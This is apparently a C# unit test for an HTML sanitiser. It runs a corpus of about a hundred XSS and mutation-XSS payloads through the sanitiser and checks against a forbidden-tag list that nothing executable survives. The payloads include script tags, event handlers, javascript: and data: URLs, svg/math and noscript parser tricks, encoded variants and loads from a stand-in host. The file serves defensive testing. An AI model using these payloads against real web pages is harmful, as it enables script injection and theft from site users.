using EcoAid.Api.Features.PolicyLibrary;

namespace EcoAid.Api.Tests.PolicyLibrary;

/// <summary>
/// A corpus of cross-site scripting and mutation-XSS payloads (scripts, event handlers, dangerous URL schemes, svg/math
/// namespace confusion, style expressions, noscript/template mutations, encoded entities). Whatever the sanitiser keeps, no
/// executable content may survive it, not after a second pass either (mutation XSS shows up when output is parsed again).
/// </summary>
public class PolicyHtmlXssCorpusTests
{
    public static TheoryData<string> Payloads() =>
    [
        // Scripts in every spelling.
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=https://evil.example/x.js></script>",
        "<script/xss src=https://evil.example/x.js></script>",
        "<script\n>alert(1)</script\n>",
        "<<script>alert(1);//<</script>",
        "<script>alert(1)<!--",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<p><script>document.write('<img src=x onerror=alert(1)>')</script></p>",
        "<script type=module>import('https://evil.example/x.js')</script>",
        // Event handlers.
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://a.cn/x.png\" onload=\"alert(1)\">",
        "<img/src=\"x\"/onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<p onmouseover=\"alert(1)\">x</p>",
        "<div/onclick=alert(1)>x</div>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>x</textarea>",
        "<keygen autofocus onfocus=alert(1)>",
        "<a href=\"https://a.cn/\" onmouseover=alert(1)>x</a>",
        "<table background=\"javascript:alert(1)\"><tr><td onclick=alert(1)>x</td></tr></table>",
        "<p ONCLICK =alert(1)>x</p>",
        "<p on\u0000click=alert(1)>x</p>",
        // Dangerous URL schemes.
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java\u0000script:alert(1)\">x</a>",
        "<a href=\"java&#x0A;script:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"\\u006aavascript:alert(1)\">x</a>",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=\"javascript:alert(1)\">",
        // svg and math namespace confusion.
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=\"javascript:alert(1)\"/></svg>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        // Style expressions and CSS.
        "<p style=\"width:expression(alert(1))\">x</p>",
        "<div style=\"background:url('javascript:alert(1)')\">x</div>",
        "<div style=\"behavior:url(x.htc)\">x</div>",
        "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>*{background:url(\"javascript:alert(1)\")}</style>",
        "<p style=\"x:\\65 xpression(alert(1))\">x</p>",
        // noscript, template and other parser mutations.
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
        "<template><script>alert(1)</script></template>",
        "<template><img src=x onerror=alert(1)></template>",
        "<div><template><style></template><img src=x onerror=alert(1)></style></div>",
        "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
        "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?><p>x</p>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<a href=\"https://a.cn/\"><a href=\"javascript:alert(1)\">x</a></a>",
        "<table><td><style></td><img src=x onerror=alert(1)></style></table>",
        "<select><style></select><img src=x onerror=alert(1)></style></select>",
        "<p title=\"`\"><img src=x onerror=alert(1)>`\">x</p>",
        // Encoded entities.
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;img src=x onerror=alert(1)&#x3e;",
        "<p title=\"&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;\">x</p>",
        "<a href=\"https://a.cn/\" title=\"&quot; onmouseover=&quot;alert(1)\">x</a>",
        "<img src=\"https://a.cn/x.png\" alt=\"&quot; onerror=&quot;alert(1)\">",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "<img src=`x`onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
    ];

    // Tags that can run script or load active content, as they would appear in the serialised output.
    private static readonly string[] ForbiddenTags =
    [
        "<script", "<style", "<iframe", "<object", "<embed", "<svg", "<math", "<template", "<noscript", "<textarea", "<title",
        "<xmp", "<noembed", "<noframes", "<plaintext", "<form", "<button", "<input", "<select", "<base", "<meta", "<link",
        "<video", "<audio", "<source", "<details", "<marquee", "<keygen", "<body", "<foreignobject", "<animate", "<set", "<!--",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void NoExecutableContentSurvives(string payload)
    {
        var once = PolicyHtml.Sanitize(payload).Html;
        var twice = PolicyHtml.Sanitize(once).Html;
        foreach (var html in new[] { once, twice })
        {
            var lower = html.ToLowerInvariant();
            foreach (var tag in ForbiddenTags)
            {
                Assert.DoesNotContain(tag, lower);
            }
            // Every remaining tag and its attributes: only the allow-list, with no handler and no script-capable URL.
            foreach (var tag in Tags(lower))
            {
                Assert.Matches("^</?(p|br|hr|h[1-6]|strong|b|em|i|u|s|del|ins|sub|sup|small|mark|span|div|section|blockquote|pre|code|ul|ol|li|dl|dt|dd|a|img|table|caption|thead|tbody|tfoot|tr|th|td)[ >]", tag);
                // Names only: an encoded quote may well spell " onerror=" inside a harmless value.
                var names = System.Text.RegularExpressions.Regex.Replace(tag, "=\"[^\"]*\"", "=");
                Assert.DoesNotMatch("\\son[a-z]*=", names);
                Assert.DoesNotContain("style=", names);
                Assert.DoesNotContain("javascript:", tag);
                Assert.DoesNotContain("vbscript:", tag);
                Assert.DoesNotContain("data:", tag);
                Assert.Matches("^</?[a-z0-9]+( (href|title|src|alt|width|height|colspan|rowspan|start)=\"[^\"<>]*\")*>$", tag);
            }
        }
        // Mutation XSS: what came out is read the same way when parsed again.
        Assert.Equal(once, twice);
    }

    [Fact]
    public void TheCorpusIsLarge() => Assert.True(Payloads().Count >= 60);

    /// <summary>The tags in serialised output: text and attribute values are encoded, so every '&lt;' opens a tag.</summary>
    private static IEnumerable<string> Tags(string html)
    {
        var at = 0;
        while ((at = html.IndexOf('<', at)) >= 0)
        {
            var end = html.IndexOf('>', at);
            Assert.True(end > at, $"unclosed tag in {html}");
            yield return html[at..(end + 1)];
            at = end + 1;
        }
    }
}
